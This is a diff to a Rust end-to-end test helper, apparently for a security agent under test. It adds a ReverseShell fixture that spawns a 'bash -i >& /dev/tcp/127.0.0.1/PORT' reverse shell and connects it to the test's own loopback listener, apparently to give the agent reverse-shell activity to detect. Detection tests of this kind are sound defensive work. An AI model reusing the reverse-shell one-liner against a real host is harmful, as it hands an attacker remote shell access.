@@ -6,7 +6,8 @@
 //! skip, because a skipped end-to-end test proves nothing.
 
 use std::{
-    io::{BufRead, BufReader},
+    io::{BufRead, BufReader, Write},
+    net::{TcpListener, TcpStream},
     path::PathBuf,
     process::{Child, Command, Stdio},
     sync::{
@@ -24,6 +25,40 @@ pub const READY_TIMEOUT: Duration = Duration::from_secs(60);
 pub const LINE_TIMEOUT: Duration = Duration::from_secs(20);
 
 pub mod collector;
+
+/// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 # TAG` connected back to a loopback listener
+/// of the test: the shell (its descriptors 0-2 are the socket) and the accepted end.
+pub struct ReverseShell {
+    pub shell: Child,
+    pub conn: TcpStream,
+    pub port: u16,
+}
+
+impl ReverseShell {
+    pub fn start(tag: &str) -> ReverseShell {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let shell = Command::new("/bin/bash")
+            .args([
+                "-c",
+                &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {tag}"),
+            ])
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let (conn, _) = listener.accept().unwrap();
+        ReverseShell { shell, conn, port }
+    }
+
+    /// Sends `exit` and waits for the shell; returns the pid of the `bash -c` parent.
+    pub fn exit(mut self) -> u32 {
+        self.conn.write_all(b"exit\n").unwrap();
+        let _ = self.shell.wait();
+        self.shell.id()
+    }
+}
 
 /// Path of the agent binary under test.
 pub fn agent_bin() -> PathBuf {
